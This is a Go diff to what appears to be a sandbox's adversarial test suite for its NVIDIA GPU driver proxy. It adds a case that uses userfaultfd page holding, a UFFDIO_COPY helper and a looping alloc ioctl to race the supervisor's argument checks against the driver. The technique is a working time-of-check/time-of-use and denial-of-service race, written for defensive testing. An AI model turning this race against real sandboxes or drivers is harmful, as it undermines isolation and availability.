@@ -19,6 +19,7 @@ func denialAttacks() []attack {
 		{name: "denial/page-held-back-in-allocation", setup: probing, run: heldBack(allocOn)},
 		{name: "denial/page-held-back-in-schedule", setup: probing, run: heldBack(scheduleOn)},
 		{name: "denial/page-held-back-while-reading", setup: probing, run: heldBackReading},
+		{name: "denial/page-held-back-in-caller", setup: probing, run: heldInCaller},
 		{name: "denial/flood-of-frees", setup: probing, run: flood(func(c *client) error { return c.release(handleFirst + 0xffff) })},
 		{name: "denial/flood-of-questions", setup: probing, run: flood(func(c *client) error {
 			return c.control(c.fd, c.root, c.subdevice, nvidia.CtrlFBGetInfoV2, make([]byte, 1028))
@@ -39,6 +40,7 @@ const (
 	uffdAPI          = 0xc018aa3f
 	uffdRegister     = 0xc020aa00
 	uffdWriteProtect = 0xc018aa06
+	uffdCopy         = 0xc028aa03
 	uffdMissing      = 1
 	uffdProtected    = 2
 	uffdFeatureWP    = 1
@@ -51,6 +53,7 @@ func (t *tenant) guardPage(missing bool) (page uint64, arm func() error, err err
 		return 0, nil, fmt.Errorf("userfaultfd: %w: %w", e, errSkip)
 	}
 	fd := int(r)
+	t.faults = fd
 	ask := func(cmd uint32, words ...uint64) error {
 		defer t.Reset()
 		b, addr, err := t.Take(8 * len(words))
@@ -81,6 +84,29 @@ func (t *tenant) guardPage(missing bool) (page uint64, arm func() error, err err
 		return 0, nil, fmt.Errorf("userfaultfd: %w: %w", err, errSkip)
 	}
 	return page, func() error { return ask(uffdWriteProtect, page, 4096, 1) }, nil
+}
+
+// supply gives the content of a page that somebody waits for.
+func (t *tenant) supply(page uint64, content []byte) error {
+	l, err := t.again()
+	if err != nil {
+		return err
+	}
+	defer func() { _ = l.Release() }()
+	src, at, err := l.Take(2 * 4096)
+	if err != nil {
+		return err
+	}
+	off := (4096 - at%4096) % 4096
+	copy(src[off:off+4096], content)
+	b, addr, err := l.Take(40)
+	if err != nil {
+		return err
+	}
+	for i, w := range []uint64{page, at + off, 4096, 0, 0} {
+		_ = nvidia.PutU64At(b, uint32(8*i), w)
+	}
+	return rawIoctl(t.faults, uffdCopy, addr)
 }
 
 // guarded is a call whose answer goes to a guarded page.
@@ -157,6 +183,42 @@ func heldBackReading(t *tenant) error {
 	go func() {
 		_ = onOwnThread(func() error { return rawIoctl(c.fd, nvidia.Cmd(nvidia.EscFree, nvidia.SizeFree), page) })
 	}()
+	time.Sleep(heldWait)
+	return nil
+}
+
+// heldInCaller lets the supervisor read an argument that the driver then does not get: a call that runs in the
+// tenant stays there for as long as the tenant likes.
+func heldInCaller(t *tenant) error {
+	c, err := t.client()
+	if err != nil {
+		return err
+	}
+	page, _, err := t.guardPage(true)
+	if err != nil {
+		return err
+	}
+	fill := func(h nvidia.Handle) error {
+		b := make([]byte, 4096)
+		a := nvidia.Alloc{Root: c.root, Parent: c.device, New: h, Class: nvidia.ClassOSDescriptor, Params: page + 256, ParamsSize: 40}
+		_ = a.Put(b) // it fits
+		return t.supply(page, b)
+	}
+	go func() {
+		_ = onOwnThread(func() error {
+			for {
+				_ = rawIoctl(c.fd, nvidia.Cmd(nvidia.EscAlloc, nvidia.SizeAlloc64), page)
+			}
+		})
+	}()
+	for i := range nvidia.Handle(300) {
+		t.tries++
+		_ = fill(handleFirst + i)
+		spin(uint32(i % 50 * 20))
+		if _, _, e := unix.Syscall(unix.SYS_MADVISE, uintptr(page), 4096, unix.MADV_DONTNEED); e != 0 {
+			return e
+		}
+	}
 	time.Sleep(heldWait)
 	return nil
 }
